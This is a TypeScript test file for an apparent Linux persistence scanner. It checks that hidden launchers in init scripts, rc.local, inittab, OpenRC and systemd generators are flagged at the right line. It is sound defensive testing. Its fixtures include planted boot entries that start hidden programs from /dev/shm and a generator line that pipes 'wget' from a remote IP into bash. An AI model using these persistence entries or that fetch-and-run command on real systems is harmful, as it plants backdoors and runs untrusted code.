import { describe, expect, it } from 'vitest';
import { at, blameOf, codesOf, scanDebian, script } from './packaged.ts';

describe('init scripts', () => {
  it('blames a script that starts a hidden program by a variable, at its line, and not a package’s or an agent’s', async () => {
    const outcome = await scanDebian(
      { '/etc/init.d/cron': script('exec /usr/sbin/cron'), '/usr/sbin/cron': script(':') },
      {
        '/etc/init.d/netdns': script(
          'DIR=/var/tmp/.font-unix2\ncase "$1" in\nstart) "$DIR/netdns" -d ;;\nesac',
        ),
        '/etc/rc3.d/S01netdns': { link: '../init.d/netdns' },
        '/etc/rc3.d/S01cron': { link: '../init.d/cron' },
        '/etc/init.d/hostwatch': script('start-stop-daemon --start --exec /opt/hostwatch/bin/agent'),
      },
    );
    expect(at(outcome, '/etc/init.d/netdns')).toMatchObject({
      verdict: 'malicious',
      attack: ['T1037.004', 'T1037'],
      places: [{ line: 4 }],
      subject: { kind: 'file', role: 'boot-file' },
    });
    expect(at(outcome, '/etc/rc3.d/S01netdns')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file', file: { kind: 'symlink' } },
    });
    expect(blameOf(outcome, '/etc/rc3.d/S01cron')).toBe('not mentioned');
    expect(blameOf(outcome, '/etc/init.d/hostwatch')).toBe('unknown');
    expect(blameOf(outcome, '/etc/init.d/cron')).toBe('not mentioned');
  });

  it('takes out of a package’s script only the line that was added', async () => {
    const stock = { text: '#!/bin/sh\nexec /usr/sbin/sshd\n', mode: 0o755 };
    const changed = { text: '#!/bin/sh\n/dev/shm/.rsync/c &\nexec /usr/sbin/sshd\n', mode: 0o755 };
    const outcome = await scanDebian({ '/etc/init.d/ssh': stock }, { '/etc/init.d/ssh': changed });
    expect(at(outcome, '/etc/init.d/ssh')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file-line', role: 'boot-line', line: { number: 2, text: '/dev/shm/.rsync/c &' } },
    });
  });

  it('finds what a runlevel’s link leads to beyond init.d', async () => {
    const outcome = await scanDebian(
      {},
      { '/etc/rc2.d/S99x': { link: '/var/tmp/.cache-x/run' }, '/var/tmp/.cache-x/run': script('sleep 1') },
    );
    expect(at(outcome, '/var/tmp/.cache-x/run')).toMatchObject({ verdict: 'malicious' });
  });
});

it('blames the added line of rc.local alone', async () => {
  const text = 'mount -a\nnohup /tmp/.ICEd-unix/m >/dev/null 2>&1 &\n/usr/local/bin/set-leds\nexit 0';
  const outcome = await scanDebian({}, { '/etc/rc.local': script(text) });
  const lines = outcome.findings.filter(({ title }) => title.startsWith('/etc/rc.local'));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatchObject({
    verdict: 'malicious',
    attack: ['T1037.004'],
    subject: { kind: 'file-line', role: 'boot-line', line: { number: 3 } },
  });
});

it('blames the line of inittab that starts a hidden program again and again, and not the consoles', async () => {
  const text =
    '# id:runlevels:action:process\nid:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\nzz:2345:respawn:+/dev/shm/.init/boot a:b\n::askfirst:-/bin/sh\n#x:2:respawn:/dev/shm/.n/netd\n';
  const outcome = await scanDebian({}, { '/etc/inittab': { text, mode: 0o644 } });
  const lines = outcome.findings.filter(({ title }) => title.startsWith('/etc/inittab'));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatchObject({
    verdict: 'malicious',
    subject: { kind: 'file-line', line: { number: 4, text: 'zz:2345:respawn:+/dev/shm/.init/boot a:b' } },
  });
});

it('blames a script of OpenRC by the program that its `command` names', async () => {
  const outcome = await scanDebian(
    {},
    {
      '/etc/init.d/netd': {
        text: '#!/sbin/openrc-run\ncommand="/dev/shm/.n/netd"\ncommand_args="-d"\n',
        mode: 0o755,
      },
      '/etc/runlevels/default/netd': { link: '/etc/init.d/netd' },
      '/etc/init.d/hostwatch': {
        text: '#!/sbin/openrc-run\ncommand="/opt/hostwatch/bin/agent"\n',
        mode: 0o755,
      },
    },
  );
  expect(at(outcome, '/etc/init.d/netd')).toMatchObject({ verdict: 'malicious', places: [{ line: 2 }] });
  expect(blameOf(outcome, '/etc/init.d/hostwatch')).toBe('unknown');
});

it('suspects a generator that no package brought, and not the one that systemd has', async () => {
  const generators = '/usr/lib/systemd/system-generators';
  const outcome = await scanDebian(
    { [`${generators}/systemd-fstab-generator`]: script('exit 0') },
    {
      '/etc/systemd/system-generators/zz-net': script('nohup /usr/local/sbin/net &'),
      '/etc/systemd/system-generators/systemd-fstab-generator': { link: '/dev/null' },
      '/run/systemd/user-generators/x': script('wget -qO- http://203.0.113.7/a | bash'),
    },
  );
  const odd = at(outcome, '/etc/systemd/system-generators/zz-net');
  expect(odd).toMatchObject({ verdict: 'suspicious', attack: ['T1543.002'] });
  expect(codesOf(odd)).toEqual(['unowned']);
  expect(blameOf(outcome, '/run/systemd/user-generators/x')).toBe('malicious');
  expect(blameOf(outcome, `${generators}/systemd-fstab-generator`)).toBe('not mentioned');
});
